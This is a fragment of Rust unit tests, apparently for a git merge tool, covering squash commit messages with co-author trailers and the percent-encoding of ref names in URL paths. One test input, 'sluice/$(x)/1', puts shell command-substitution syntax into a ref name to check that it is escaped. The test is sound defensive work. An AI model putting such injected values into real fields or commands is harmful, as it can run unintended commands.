            message,
            "Title (#4)\n\nCo-authored-by: Bo <bo@x.invalid>\nCo-authored-by: Cy <cy@x.invalid>"
        );
        assert_eq!(author.unwrap().name, "Ann");
        let (message, _) = squash_message("Alone (#1)", &commits[..1]);
        assert_eq!(message, "Alone (#1)");
    }

    #[test]
    fn ref_names_stay_in_their_path_segments() {
        assert_eq!(heads_path("sluice/main/7"), "heads/sluice/main/7");
        assert_eq!(heads_path("a#b?c"), "heads/a%23b%3Fc");
        assert_eq!(heads_path("sluice/$(x)/1"), "heads/sluice/%24%28x%29/1");
    }
}
